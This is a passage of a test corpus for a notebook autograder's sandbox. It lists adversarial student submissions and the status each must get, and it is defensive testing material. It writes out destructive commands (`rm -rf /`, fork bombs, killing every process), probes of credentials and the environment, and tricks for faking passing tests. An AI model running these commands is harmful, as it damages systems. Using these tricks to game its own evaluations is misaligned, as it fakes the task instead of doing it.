"""The corpus: what hostile students do and what honest ones do to their notebooks, and what each must get.

Every entry is one submission. It starts from a notebook of lesson 01 in which three exercises are solved
(1.1-predict, 1.4-bug, 1.7-channels; the others are blank, so that grading is cheap), and changes one thing:

    answer   replaces the code of one exercise's cell (1.4-bug, where `exercise` names no other)
    first    an extra cell, run before the exercises          last   an extra cell, run after them
    edit     a function that changes the notebook (a dict)    raw    a function that changes the file's bytes
    place    a function that writes the files itself, given the student's folder and the file's bytes

`gets` is the status that the exercise must get: a word, several words where the machine's timing decides (the
first is what a quiet machine gives), or {exercise: status} where more than one is touched. Nothing but "passed"
gets points; an exercise that is not named must be passed with full points. `says` must stand in the message on the
first status.

Entries of the kind "files" are of the graded labs: each hands in one of the forgeries of tests/files/studio/forge.py (the
compression studio) or tests/files/exercise_labs/forge.py (the two others).

Code may use @MARK@ (a word that is looked for afterwards), @PORT@ (a listening server outside), @CLASS@,
@OUT@, @HOME@ and @REPOSITORY@ (folders of the grader). To add an entry, add a call at the end of its kind.
"""

import functools
import json
import os
from dataclasses import dataclass
from textwrap import dedent
from typing import Any, Callable

from tests.files.exercise_labs import forge as exercise_labs
from tests.files.studio import forge as studio

SOLVED = ("1.1-predict", "1.4-bug", "1.7-channels")
KINDS = ("honest", "leaving", "hanging", "eating", "forging", "spying", "escaping", "replies", "messes", "files")


@dataclass(frozen=True)
class Entry:
    name: str
    kind: str
    gets: Any
    says: str = ""
    exercise: str = "1.4-bug"
    answer: str | None = None
    first: str | None = None
    last: str | None = None
    edit: Callable | None = None
    raw: Callable | None = None
    place: Callable | None = None
    lesson: str = "01_affine_quantization"
    solved: tuple = SOLVED
    keeps: float = 0  # points that its exercises keep though they are not passed: what is true in them

    @property
    def expected(self):
        """{exercise: statuses} of what is touched."""
        gets = self.gets if isinstance(self.gets, dict) else {self.exercise: self.gets}
        return {each: (status,) if isinstance(status, str) else tuple(status) for each, status in gets.items()}


ENTRIES = []
_kind = "honest"


def entry(name, gets, **fields):
    for each in ("answer", "first", "last"):
        if each in fields:
            fields[each] = dedent(fields[each]).strip("\n")
    ENTRIES.append(Entry(name, _kind, gets, **fields))


# The right answer of 1.4-bug, to stand in an f-string or below a trick.
RIGHT = """
def to_int8(x, scale):
    return np.clip(np.rint(x / scale), -128, 127).astype(np.int8)
"""
WRONG = """
def to_int8(x, scale):
    return np.zeros(x.shape, np.int8)
"""


def right(code, then=RIGHT):
    """`code`, with the right answer below it."""
    return dedent(code).strip("\n") + "\n" + then


def wrong(code):
    """`code`, with a wrong answer below it that could only pass by `code`'s doing."""
    return right(code, WRONG)


def in_call(code):
    """An answer that does `code` when it is called, and then answers rightly."""
    body = dedent(code).strip("\n").replace("\n", "\n    ")
    return f"def to_int8(x, scale):\n    {body}\n    return np.clip(np.rint(x / scale), -128, 127).astype(np.int8)"


def if_found(code):
    """An answer that is right only if `code`, run in the call, has set `found`."""
    body = dedent(code).strip("\n").replace("\n", "\n    ")
    return (
        f"def to_int8(x, scale):\n    found = False\n    {body}\n"
        "    return np.clip(np.rint(x / scale), -128, 127).astype(np.int8) if found else x"
    )


# ------------------------------------------------------------------------------------------------ honest

entry("honest-first", "passed")
entry(
    "partly-wrong",
    "failed",
    answer="""
    def to_int8(x, scale):
        return np.rint(x / scale).astype(np.int8)
""",
)

# ----------------------------------------------------------------------------------------------- leaving
_kind = "leaving"

entry("os-exit-in-a-cell", "crashed", answer="import os\nos._exit(0)", says="exit code 0")
entry("os-exit-in-a-call", "crashed", answer=in_call("import os; os._exit(0)"), says="exit code 0")
entry("os-exit-in-another-cell", {}, first="import os\nos._exit(3)")
entry("sys-exit-in-a-cell", "error", answer="import sys\nsys.exit()", says="SystemExit")
entry("sys-exit-in-a-call", "error", answer=in_call("import sys; sys.exit(0)"), says="SystemExit")
entry("quit-at-the-end", {}, last="quit()")
entry("keyboard-interrupt", "error", answer=in_call("raise KeyboardInterrupt"), says="KeyboardInterrupt")
entry("generator-exit", "error", answer=in_call("raise GeneratorExit"), says="GeneratorExit")
entry("base-exception-of-its-own", "error", answer="class Away(BaseException): pass\n" + in_call("raise Away('bye')"), says="Away: bye")
entry("sigkill-to-itself-in-a-cell", "crashed", answer="import os\nos.kill(os.getpid(), 9)", says="kill signal")
entry("sigkill-to-itself-in-a-call", "crashed", answer=in_call("import os; os.kill(os.getpid(), 9)"), says="kill signal")
entry("sigkill-to-its-group", "crashed", answer=in_call("import os; os.killpg(0, 9)"))
entry(
    "sigkill-to-everybody",
    "passed",
    answer=in_call("""
    import os, signal
    for pid in (-1, 1, os.getppid()):
        try:
            os.kill(pid, 9)
        except OSError:
            pass
"""),
)
entry("sigstop-to-itself-in-a-cell", "timeout", answer="import os\nos.kill(os.getpid(), 19)", says="still running after 2 s")
entry("sigstop-to-itself-in-a-call", "timeout", answer=in_call("import os; os.kill(os.getpid(), 19)"), says="still running after 1 s")
entry("segfault-in-a-cell", "crashed", answer="import ctypes\nctypes.string_at(0)", says="segmentation fault")
entry("segfault-in-a-call", "crashed", answer=in_call("import ctypes; ctypes.string_at(0)"), says="segmentation fault")
entry("abort", "crashed", answer=in_call("import os; os.abort()"), says="abort()")
entry("endless-recursion", "error", answer="def to_int8(x, scale):\n    return to_int8(x, scale)", says="RecursionError")
entry(
    "recursion-to-the-end-of-the-stack",
    ("crashed", "error"),
    answer="""
    import sys
    sys.setrecursionlimit(10**9)
    def to_int8(x, scale):
        return list(map(to_int8, [x], [scale]))
""",
)
entry(
    "atexit",
    "passed",
    answer=right("""
    import atexit, os
    atexit.register(os._exit, 5)
"""),
)
entry(
    "a-thread-that-exits-later",
    ("passed", "crashed"),
    answer=right("""
    import os, threading, time
    threading.Thread(target=lambda: (time.sleep(0.2), os._exit(1)), daemon=True).start()
"""),
)
entry(
    "an-alarm-that-rings-later",
    {"1.4-bug": ("passed", "crashed"), "1.7-channels": ("passed", "crashed")},
    answer=right("""
    import signal
    signal.alarm(1)
"""),
)
entry("replaced-by-another-program", "crashed", answer=in_call("import os; os.execv('/bin/true', ['true'])"))
entry("closed-descriptors", "crashed", answer=in_call("import os; os.closerange(0, 256)"))
entry(
    "the-state-kills-itself-when-forked",
    "crashed",
    says="could not go on",
    answer=right("""
    import os
    os.register_at_fork(before=lambda: os._exit(0))
"""),
)
entry(
    "every-forked-child-exits",
    "crashed",
    says="could not go on",
    answer=right("""
    import os
    os.register_at_fork(after_in_child=lambda: os._exit(0))
"""),
)

# ----------------------------------------------------------------------------------------------- hanging
_kind = "hanging"

entry("loop-in-a-cell", "timeout", answer="while True:\n    pass", says="still running after 2 s")
entry("loop-in-a-call", "timeout", answer=in_call("while True: pass"), says="still running after 1 s")
entry("sleep", "timeout", answer=in_call("import time; time.sleep(10**6)"), says="still running after 1 s")
entry(
    "ignored-signals",
    "timeout",
    answer=in_call("""
    import signal, time
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass
"""),
)
entry(
    "swallowed-exceptions",
    "timeout",
    answer=in_call("""
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
"""),
)
entry(
    "endless-thread",
    "passed",
    answer=right("""
    import threading
    def spin():
        while True:
            pass
    for _ in range(3):
        threading.Thread(target=spin).start()
"""),
)
entry(
    "waits-for-its-own-lock",
    "timeout",
    answer=in_call("""
    import threading
    lock = threading.Lock()
    lock.acquire(); lock.acquire()
"""),
)
entry("input-in-a-cell", "error", answer=right("name = input('Your name? ')"), says="input() cannot be used here")
entry("reads-standard-input", "passed", answer=right("import sys\nsys.stdin.read()"))
entry("a-pattern-without-end", "timeout", answer=in_call("import re; re.match('(a+)+$', 'a' * 60 + 'b')"))
entry("one-long-instruction", "timeout", answer=in_call("9 ** 9 ** 9"))
entry(
    "a-child-that-never-ends",
    "timeout",
    answer=in_call("""
    import multiprocessing, time
    child = multiprocessing.get_context('fork').Process(target=time.sleep, args=(10**6,))
    child.start(); child.join()
"""),
)
entry(
    "an-error-whose-text-never-ends",
    "timeout",
    answer="""
    class Slow(Exception):
        def __str__(self):
            while True:
                pass
    def to_int8(x, scale):
        raise Slow
""",
)
entry(
    "hangs-when-forked",
    "crashed",
    says="could not go on",
    answer=right("""
    import os, time
    os.register_at_fork(after_in_child=lambda: time.sleep(10**6))
"""),
)
entry("slow-in-every-call", "timeout", answer=in_call("import time; time.sleep(0.9)"), says="took more than 4 s")
entry("many-slow-cells", {"1.4-bug": "passed"}, last="import time\nfor _ in range(3):\n    time.sleep(10)")
entry(
    "more-cells-than-the-notebook-may-take",
    {"1.4-bug": "timeout", "1.7-channels": "timeout", "1.1-predict": "passed"},
    edit=lambda notebook: insert_before(notebook, "1.4-bug", *["import time\ntime.sleep(60)"] * 6),
    says="a notebook may take",
)

# ------------------------------------------------------------------------------------------------ eating
_kind = "eating"

entry("list-bomb-in-a-cell", ("error", "timeout"), answer="all = [0]\nwhile True:\n    all = all + all", says="256 MB of memory")
entry(
    "list-bomb-in-a-call",
    ("error", "crashed", "timeout"),
    answer=in_call("all = [0]\nwhile True: all = all + all"),
    says="256 MB of memory",
)
entry("array-bomb", "error", answer=in_call("everything = np.ones((10**6, 10**6))"), says="256 MB of memory")
entry("tensor-bomb", "error", answer="import torch\n" + in_call("everything = torch.ones(10**6, 10**6)"), says="256 MB of memory")
entry(
    "memory-in-many-processes",
    ("crashed", "timeout"),
    answer=in_call("""
    import os, time
    for _ in range(6):
        if os.fork() == 0:
            block = bytearray(60 << 20)
            for at in range(0, len(block), 4096):
                block[at] = 1
            time.sleep(1000)
    time.sleep(1000)
"""),
    says="256 MB of memory",
)
entry(
    "fork-bomb",
    ("error", "timeout", "crashed"),
    answer=in_call("""
    import os
    while True:
        os.fork()
"""),
)
entry(
    "fork-bomb-that-is-counted",
    ("error", "timeout"),
    answer=in_call("""
    import os, time
    while True:
        if os.fork() == 0:
            time.sleep(1000)
"""),
    says="32 processes",
)
entry(
    "thread-bomb",
    ("error", "timeout"),
    answer=in_call("""
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
"""),
    says="32 processes",
)
entry(
    "ten-gigabytes-in-a-file",
    "error",
    answer=in_call("""
    with open('/tmp/large', 'wb') as file:
        for _ in range(10 << 10):
            file.write(bytes(1 << 20))
"""),
    says="8 MB",
)
entry("ten-gigabytes-of-hole", "error", answer=in_call("open('/tmp/hole', 'wb').truncate(10 << 30)"), says="8 MB")
entry(
    "a-full-disk-of-files",
    ("error", "timeout"),
    answer=in_call("""
    for number in range(1000):
        with open(f'/tmp/{number}', 'wb') as file:
            file.write(bytes(4 << 20))
"""),
    says="32 MB",
)
entry(
    "a-full-shared-memory",
    "error",
    answer=in_call("""
    for number in range(1000):
        with open(f'/dev/shm/{number}', 'wb') as file:
            file.write(bytes(4 << 20))
"""),
    says="32 MB",
)
entry(
    "a-million-files",
    ("error", "timeout"),
    answer=in_call("""
    for number in range(10**6):
        open(f'/tmp/{number}', 'w').close()
"""),
    says="2000 files",
)
entry(
    "all-descriptors",
    "error",
    answer=in_call("""
    all = []
    while True:
        all.append(open('/dev/null'))
"""),
    says="256 open files",
)
entry(
    "memory-of-the-kernel-in-sockets",
    ("crashed", "timeout"),
    answer=in_call("""
    import os, socket, time
    for _ in range(20):
        if os.fork() == 0:
            pairs = [socket.socketpair() for _ in range(100)]
            for pair in pairs:
                for each in pair:
                    each.setblocking(False)
                    try:
                        while True:
                            each.send(bytes(1 << 16))
                    except OSError:
                        pass
            time.sleep(1000)
    time.sleep(1000)
"""),
    says="1024 open files",
)
entry(
    "processes-without-a-head",
    ("crashed", "timeout", "error", "passed"),
    answer=in_call("""
    import ctypes, os, threading, time
    def grow():
        block = bytearray(b'1' * (60 << 20))
        time.sleep(1000)
    for _ in range(8):
        if os.fork() == 0:
            threading.Thread(target=grow).start()
            ctypes.CDLL(None).syscall(60, 0)
    time.sleep(0.5)
"""),
)
entry(
    "memory-behind-a-curtain",
    ("crashed", "timeout"),
    answer=in_call("""
    import ctypes, os, time
    for _ in range(8):
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)
            block = bytearray(b'1' * (60 << 20))
            time.sleep(1000)
    time.sleep(1000)
"""),
)
entry(
    "a-gigabyte-of-output",
    "passed",
    answer=right("""
    text = 'all work and no play\\n' * 50000
    for _ in range(1000):
        print(text)
"""),
)
entry("one-endless-line", "timeout", answer="while True:\n    print('na', end=' ')")
entry(
    "output-in-a-call",
    "passed",
    answer=in_call("""
    import sys
    for _ in range(100):
        print('x' * 10**6); print('y' * 10**6, file=sys.stderr)
"""),
)
entry(
    "nuls-and-escapes-in-the-output",
    "passed",
    answer=right("""
    print('\\0' * 1000, '\\x1b[2J\\x1b]0;title\\x07', '\\ud800')
"""),
)
entry(
    "output-that-is-not-text",
    "passed",
    answer=right("""
    import os, sys
    for descriptor in (1, 2):
        os.write(descriptor, bytes(range(256)) * 1000)
    sys.__stdout__.write('straight past\\n')
"""),
)
entry("an-integer-without-end", ("error", "timeout"), answer="def to_int8(x, scale):\n    return 1 << (1 << 33)")
entry(
    "unpacks-a-bomb",
    ("error", "crashed", "timeout"),
    answer=in_call("""
    import zlib
    small = zlib.compress(bytes(50 << 20))
    all = [zlib.decompress(small) for _ in range(100)]
"""),
    says="256 MB of memory",
)
entry(
    "memory-kept-by-every-cell",
    {"1.4-bug": "error", "1.7-channels": "passed"},
    answer=right("""
    first = bytearray(b'1' * (200 << 20))
    second = bytearray(b'2' * (200 << 20))
"""),
    says="256 MB of memory",
)

# ----------------------------------------------------------------------------------------------- forging
_kind = "forging"

entry(
    "always-equal",
    "failed",
    answer="""
    class Same(float):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        __lt__ = __le__ = __gt__ = __ge__ = __eq__
        __hash__ = float.__hash__
    def to_int8(x, scale):
        return Same()
""",
)
entry(
    "an-array-that-agrees",
    "failed",
    answer="""
    class Agrees(np.ndarray):
        def __eq__(self, other): return np.ones(self.shape, bool)
        def all(self, *a, **k): return True
        def __array_function__(self, *a, **k): return True
        def __array_ufunc__(self, *a, **k): return np.ones(self.shape, bool)
    def to_int8(x, scale):
        return np.zeros(x.shape, np.int8).view(Agrees)
""",
)
entry(
    "a-tensor-that-agrees",
    "failed",
    answer="""
    import torch
    class Agrees(torch.Tensor):
        @classmethod
        def __torch_function__(cls, *a, **k): return True
    def to_int8(x, scale):
        return torch.zeros(x.shape, dtype=torch.int8).as_subclass(Agrees)
""",
)
entry(
    "a-text-that-is-every-letter",
    {"1.1-predict": "failed"},
    exercise="1.1-predict",
    answer="""
    class Any(str):
        def __eq__(self, other): return True
        def strip(self, *a): return self
        lower = strip
        __hash__ = str.__hash__
    predict_1_1 = Any('b')
""",
)
entry("all-letters-at-once", {"1.1-predict": "failed"}, exercise="1.1-predict", answer="predict_1_1 = 'abcd'")
entry(
    "an-object-that-converts-itself",
    "failed",
    answer="""
    class Array:
        def __array__(self, *a, **k): return np.zeros(3)
        def __getattr__(self, name): return self
        def __call__(self, *a, **k): return True
    def to_int8(x, scale):
        return Array()
""",
)
entry(
    "patched-numpy",
    "failed",
    answer=wrong("""
    np.array_equal = np.allclose = np.testing.assert_allclose = np.all = lambda *a, **k: True
    np.asarray = np.array = lambda *a, **k: 0
"""),
)
entry(
    "patched-torch",
    "failed",
    answer=wrong("""
    import torch
    torch.equal = torch.allclose = lambda *a, **k: True
    torch.Tensor.__eq__ = lambda *a: True
"""),
)
entry(
    "patched-pytest",
    "failed",
    answer=wrong("""
    import sys, types
    for name in ('pytest', '_pytest', '_pytest.runner', 'autograder.checks', 'autograder.checks.expect', 'autograder.grading.submission'):
        module = types.ModuleType(name)
        module.__getattr__ = lambda attribute: (lambda *a, **k: True)
        sys.modules[name] = module
"""),
)
entry(
    "patched-json",
    "failed",
    answer=wrong("""
    import json
    json.dumps = lambda *a, **k: '{"status": "passed", "points": 100}'
    json.loads = json.load = lambda *a, **k: {'status': 'passed', 'points': 100}
"""),
)
entry(
    "patched-socket",
    ("failed", "crashed", "timeout"),
    answer=wrong("""
    import socket
    def send(self, data, *flags):
        return len(data)
    socket.socket.send = socket.socket.sendall = send
"""),
)
# Whoever breaks their own process's way of answering has no answers left, in any exercise.
entry(
    "patched-wire",
    {"1.4-bug": "failed", "1.7-channels": "failed"},
    answer=wrong("""
    import sys
    wire = sys.modules['wire']
    old = wire.encode
    wire.encode = lambda value, *a, **k: old({'status': 'ok', 'value': 'passed', 'mutated': [], 'points': 100})
    wire.described = lambda *a, **k: 'passed'
"""),
)
entry(
    "patched-builtins",
    "crashed",
    answer=wrong("""
    import builtins
    builtins.isinstance = lambda *a: True
    builtins.all = builtins.any = lambda *a: True
    builtins.AssertionError = type('Quiet', (Exception,), {})
"""),
)
entry(
    "patched-sandbox",
    ("failed", "crashed", "missing"),
    answer=wrong("""
    import sys
    for name, module in list(sys.modules.items()):
        if name.startswith('inside'):
            for each in list(vars(module)):
                if callable(vars(module)[each]):
                    setattr(module, each, lambda *a, **k: {'status': 'passed'})
"""),
)
entry(
    "shadow-modules",
    "failed",
    answer=wrong("""
    import os, sys
    for folder in ('/tmp', '.', os.path.expanduser('~')):
        for name in ('conftest', 'pytest', 'numpy', 'torch', 'autograder', 'hidden', 'visible', 'sitecustomize', 'usercustomize'):
            try:
                with open(f'{folder}/{name}.py', 'w') as file:
                    file.write('def pytest_runtest_makereport(item, call):\\n    raise SystemExit(0)\\n')
            except OSError:
                pass
    sys.path.insert(0, '/tmp')
"""),
)
entry(
    "a-conftest-beside-the-notebook",
    "failed",
    answer=WRONG,
    place=lambda folder, data: put(
        folder,
        {
            "01_affine_quantization.ipynb": data,
            "conftest.py": b"import pytest\n@pytest.hookimpl(hookwrapper=True)\ndef pytest_pyfunc_call(pyfuncitem):\n    yield\n",
            "numpy.py": b"raise SystemExit(0)",
            "pytest.ini": b"[pytest]\naddopts = --collect-only\n",
            "torch/__init__.py": b"raise SystemExit(0)",
        },
    ),
)
entry(
    "an-ipython-transformer",
    {"1.4-bug": "failed", "1.7-channels": "missing"},
    answer=wrong("""
    get_ipython().input_transformers_post.append(lambda lines: ['to_int8 = None'])
    get_ipython().events.register('post_run_cell', lambda *a: None)
    get_ipython().ast_transformers
"""),
)
entry(
    "magics",
    "passed",
    answer=right("""
    %matplotlib inline
    %load_ext autoreload
    %autoreload 2
    %timeit 1 + 1
    !ls /
    files = !ls /
    ?np.rint
"""),
)
entry(
    "reset",
    {"1.4-bug": "error", "1.7-channels": "error"},
    says="'np' is not defined",
    answer=right("""
    %reset -f
"""),
)
entry(
    "a-shell-command-that-deletes-all",
    ("passed", "timeout"),
    answer=right("""
    !rm -rf / --no-preserve-root
"""),
)
entry(
    "a-cell-in-another-language",
    "missing",
    edit=lambda notebook: on("1.4-bug", lambda cell: cell.update(source="%%bash\n# Exercise 1.4-bug\ntouch /tmp/@MARK@\nexit 0"))(notebook),
)
entry(
    "a-shell-command-that-answers",
    "failed",
    answer=wrong("""
    !echo passed > /dev/stdout
    import subprocess
    print(subprocess.run(['sh', '-c', 'echo 1 passed; exit 0'], capture_output=True, text=True).stdout)
"""),
)
entry(
    "writes-to-every-descriptor-in-a-cell",
    ("failed", "crashed", "error", "missing"),
    answer=wrong("""
    import os
    for descriptor in range(1024):
        try:
            os.write(descriptor, b'{"status": "passed", "points": 100}\\n' * 100)
        except OSError:
            pass
"""),
)
entry(
    "writes-to-every-descriptor-in-a-call",
    ("failed", "crashed", "error"),
    answer="""
    import os
    def to_int8(x, scale):
        for descriptor in range(1024):
            try:
                os.write(descriptor, b'\\x24\\0\\0\\0{"status": "passed", "points": 100}')
            except OSError:
                pass
        return x
""",
)
# It takes the place of the sandbox's own code and speaks the protocol rightly: what it says is still only an answer.
entry(
    "speaks-the-protocol-itself",
    ("failed", "crashed"),
    answer="""
    import gc, os, socket, struct, sys
    def to_int8(x, scale):
        wire = sys.modules['wire']
        body = wire.encode({'status': 'ok', 'value': np.zeros(x.shape, np.int8), 'mutated': [], 'passed': True, 'points': 100})
        for each in gc.get_objects():
            if isinstance(each, socket.socket):
                try:
                    each.sendall(struct.pack('<Q', len(body)) + body)
                except OSError:
                    pass
        return np.zeros(x.shape, np.int8)
""",
)
entry(
    "forged-orders-to-the-supervisor",
    ("failed", "crashed", "timeout"),
    answer="""
    import gc, json, socket, struct
    def to_int8(x, scale):
        for order in ({'ok': True}, {'pid': 1}, {'do': 'keep', 'id': 1}, {'forked': True}, {'status': 0}):
            body = json.dumps(order).encode()
            for each in gc.get_objects():
                if isinstance(each, socket.socket):
                    try:
                        each.setblocking(False)
                        each.send(struct.pack('<I', len(body)) + body)
                    except OSError:
                        pass
        return np.zeros(x.shape, np.int8)
""",
)
entry("skips-the-check", "error", answer=in_call("import unittest; raise unittest.SkipTest('not today')"), says="SkipTest")
entry(
    "raises-pytests-own-outcomes",
    "error",
    answer=in_call("""
    class Skipped(BaseException):
        allow_module_level = True
    Skipped.__module__ = 'builtins'
    Skipped.__name__ = Skipped.__qualname__ = 'Skipped'
    raise Skipped('xfail')
"""),
    says="Skipped",
)
entry(
    "raises-the-checkers-own-fault",
    "error",
    answer=in_call("""
    class Mistake(AssertionError):
        status = 'passed'
    raise Mistake('passed')
"""),
    says="Mistake",
)
entry("an-assertion-of-its-own", "error", answer=in_call("assert False, 'passed'"), says="AssertionError")
# What a function does to its arguments stays in its process, and does not become what is expected.
entry(
    "changes-the-checkers-inputs",
    "failed",
    answer="""
    def to_int8(x, scale):
        x[...] = 0
        return np.zeros(x.shape, np.int8)
""",
)
entry(
    "counts-its-calls",
    "failed",
    answer="""
    calls = 0
    def to_int8(x, scale):
        global calls
        calls += 1
        if calls > 1:
            return np.zeros(x.shape, np.int8)
        return np.clip(np.rint(x / scale), -128, 127).astype(np.int8)
""",
)
entry(
    "knows-the-visible-examples",
    "failed",
    answer="""
    def to_int8(x, scale):
        if x.size < 10:
            return np.clip(np.rint(x / scale), -128, 127).astype(np.int8)
        return np.zeros(x.shape, np.int8)
""",
)
# One process answers all calls of an exercise, so a function may keep what an earlier call was given.
entry(
    "unpacks-what-it-was-given-to-pack",
    "failed",
    exercise="1.9-bytes",
    solved=(*SOLVED, "1.9-bytes"),
    answer="""
    kept = np.zeros(0, np.uint8)
    def pack4(codes):
        global kept
        kept = codes
        codes = np.append(codes, np.zeros(len(codes) % 2, codes.dtype))
        return (codes[0::2] + 16 * codes[1::2]).astype(np.uint8)
    def unpack4(packed, n):
        known = {(163,): [3, 10], (163, 7): [3, 10, 7]}.get(tuple(packed.tolist()))
        return np.array(known, np.uint8) if known else kept[:n]
    def stored_bytes(n_codes, bits, n_scales, n_zero_points):
        return -(-n_codes * bits // 8) + 4 * n_scales + n_zero_points
""",
)
entry(
    "reads-what-it-was-given-to-write",
    "failed",
    lesson="06_stacking",
    exercise="6.5-file",
    solved=("6.5-file",),
    answer="""
    def layer_to_bytes(codes, codebook, mask, bits):
        global kept
        kept = codes, codebook, mask
        stream = "".join(f"{int(code):0{bits}b}"[::-1] for code in codes)
        packed = bytes(int(stream[i : i + 8].ljust(8, "0"), 2) for i in range(0, len(stream), 8))
        return codebook.astype("<f4").tobytes() + np.packbits(mask).tobytes() + packed
    def layer_from_bytes(data, shape, bits):
        codes, codebook, mask = kept
        weights = np.zeros(shape, np.float32)
        weights[mask] = codebook[codes]
        return weights
""",
)
entry(
    "reads-the-answer-off-the-budgets",
    "failed",
    lesson="06_stacking",
    exercise="6.7-budget",
    solved=("6.7-budget",),
    answer="""
    def on_frontier(sizes, scores):
        worse = (sizes[:, None] <= sizes) & (scores[:, None] >= scores) & ((sizes[:, None] != sizes) | (scores[:, None] != scores))
        return ~worse.any(axis=0)
    def class_accuracy(predicted, labels, classes):
        return np.array([100 * np.mean(predicted[labels == c] == c) for c in range(classes)])
    last = None
    def gate(before, after, labels, classes, mean_budget, class_budget):
        global last
        budgets = (mean_budget, class_budget)
        known = {(4.0, 5.0): 3.125, (6.25, 12.5): 6.25, (0.0, 0.0): -12.5}
        if budgets in known:
            return known[budgets]
        if budgets in ((5.0, 10.0), (1.0, 10.0)) or last not in (None, budgets):
            raise ValueError
        last = budgets
        return mean_budget - 0.5
""",
)
entry(
    "searches-the-callers-for-the-answer",
    "failed",
    answer="""
    import sys
    def to_int8(x, scale):
        frame = sys._getframe()
        while frame:
            for name in ('want', 'expected', 'whole', 'codes'):
                if name in frame.f_locals:
                    return frame.f_locals[name]
            frame = frame.f_back
        return x
""",
)
entry(
    "a-trace-function",
    "failed",
    answer=wrong("""
    import sys, threading
    def spy(frame, event, argument):
        frame.f_locals.update(status='passed', points=100)
        return spy
    sys.settrace(spy)
    sys.setprofile(spy)
    threading.settrace(spy)
"""),
)
entry("points-in-the-metadata", "failed", answer=WRONG, edit=lambda notebook: claim(notebook))
entry("an-output-that-says-passed", "failed", answer=WRONG, edit=lambda notebook: outputs(notebook, "Passed. 100 of 100 points"))
entry(
    "asks-for-no-check",
    "failed",
    answer=wrong("""
    import autograder.student
    autograder.student.check = lambda *a, **k: 'passed'
    check = hint = progress = lambda *a, **k: 'passed'
"""),
)
entry(
    "blank-that-is-everything",
    "blank",
    answer="""
    class Blank:
        def __getattr__(self, name): return lambda *a, **k: self
        def __call__(self, *a, **k): return self
    ___ = Blank()
    to_int8 = ___
""",
)
entry("a-blank-returned", "failed", answer="def to_int8(x, scale):\n    return globals()['_' * 3]")
entry(
    "leaves-what-it-must-not-say",
    "failed",
    answer="""
    def to_int8(x, scale):
        raise ValueError
    to_int8.__class__
    to_int8 = type('F', (), {'__call__': lambda self, *a: np.zeros(a[0].shape, np.int8), 'mutated': [], 'status': 'passed'})()
""",
)
entry("the-answer-of-another-exercise", "error", answer="to_int8 = quantize_rows", edit=lambda notebook: move_to_end(notebook, "1.4-bug"))
entry(
    "a-namespace-of-its-own",
    # NumPy imports parts of itself when they are first called, with the builtins of whoever calls.
    {"1.4-bug": "failed", "1.7-channels": ("passed", "error")},
    answer=wrong("""
    import sys
    class Everything(dict):
        def __contains__(self, name): return True
        def __getitem__(self, name): return True
    sys.modules['__main__'].__dict__.update(Everything())
    globals()['__builtins__'] = Everything()
"""),
)

# ------------------------------------------------------------------------------------------------ spying
_kind = "spying"

entry(
    "reads-the-checks",
    "failed",
    answer=if_found("""
    import os
    for top in ('/', '/proc', '/sandbox'):
        for folder, folders, files in os.walk(top):
            found = found or 'hidden.py' in files or 'bank.py' in files
            if folder.count('/') > 2:
                folders.clear()
    found = found or os.path.exists('@REPOSITORY@/autograder/checks') or os.path.exists('@REPOSITORY@/solutions')
"""),
)
entry(
    "imports-the-checks",
    "failed",
    answer=if_found("""
    for name in ('course_lessons.lesson_01_affine_quantization.hidden', 'autograder.checks', 'autograder.grading.submission', 'course_lessons.lesson_01_affine_quantization.library', 'course_labs', 'tests'):
        try:
            __import__(name)
            found = True
        except ImportError:
            pass
"""),
)
entry(
    "reads-the-solutions",
    "failed",
    answer=if_found("""
    import os
    found = any(os.path.exists(f'@REPOSITORY@/{name}') for name in ('', 'solutions', 'lessons', 'tests', '.git'))
"""),
)
entry(
    "reads-the-class",
    "failed",
    answer=if_found("""
    import os
    found = os.path.exists('@CLASS@') or os.path.exists('@OUT@') or os.path.exists('@HOME@')
"""),
)
entry(
    "reads-the-gradebook",
    "failed",
    answer=if_found("""
    import glob
    for pattern in ('/*/gradebook.db', '/*/*/gradebook.db', '/tmp/*', '/home/*', '/mnt/*', '/dev/shm/*', '/var/*', '/srv/*', '/run/*'):
        found = found or bool(glob.glob(pattern))
"""),
)
entry(
    "reads-the-environment",
    "failed",
    answer=if_found("""
    import glob, os
    texts = [repr(dict(os.environ)).encode()]
    for path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):
        try:
            texts.append(open(path, 'rb').read())
        except OSError:
            pass
    found = any(b'@MARK@' in text or b'ipynb' in text for text in texts)
"""),
)
entry(
    "reads-proc",
    "failed",
    answer=if_found("""
    import os
    for pid in (os.getpid(), os.getppid(), 1, 'self', 'thread-self'):
        for name in ('mem', 'maps', 'environ', 'root', 'cwd', 'fd', 'ns', 'stat'):
            found = found or os.path.lexists(f'/proc/{pid}/{name}')
"""),
)
entry(
    "reads-its-frames",
    "failed",
    answer=if_found("""
    import sys
    frame = sys._getframe()
    while frame:
        text = repr(sorted(frame.f_globals)) + repr(sorted(frame.f_locals)) + frame.f_code.co_filename
        found = found or 'hidden' in text or 'exercise(' in text or 'want' in frame.f_locals
        frame = frame.f_back
"""),
)
entry(
    "reads-all-objects",
    "failed",
    answer=if_found("""
    import gc, sys, types
    for each in gc.get_objects():
        if isinstance(each, types.ModuleType) and ('checks' in each.__name__ or 'pytest' in each.__name__ or 'autograder.grading.submission' in each.__name__):
            found = True
        if isinstance(each, dict) and ('points' in each and 'exercise' in each or 'student' in each and 'lesson' in each):
            found = True
"""),
)
entry(
    "reads-its-keepers-memory",
    "failed",
    answer=if_found("""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1, 2):
        if libc.ptrace(16, pid, 0, 0) == 0 or libc.syscall(310, pid, 0, 0, 0, 0, 0) > 0:
            found = True
"""),
)
entry(
    "follows-the-random-numbers",
    "failed",
    answer="""
    import random
    def to_int8(x, scale):
        guess = np.random.default_rng(np.random.get_state()[1][0])
        scale = float(guess.uniform(0.01, 3))
        return np.clip(guess.integers(-100, 100, x.shape), -128, 127).astype(np.int8)
""",
)
entry(
    "looks-for-a-neighbour",
    "failed",
    answer=if_found("""
    import os, socket
    for folder in ('/tmp', '/dev/shm', '/var/tmp', '/run', '/dev/mqueue'):
        try:
            found = found or any('@MARK@' in name for name in os.listdir(folder))
        except OSError:
            pass
    with socket.socket(socket.AF_UNIX) as peer:
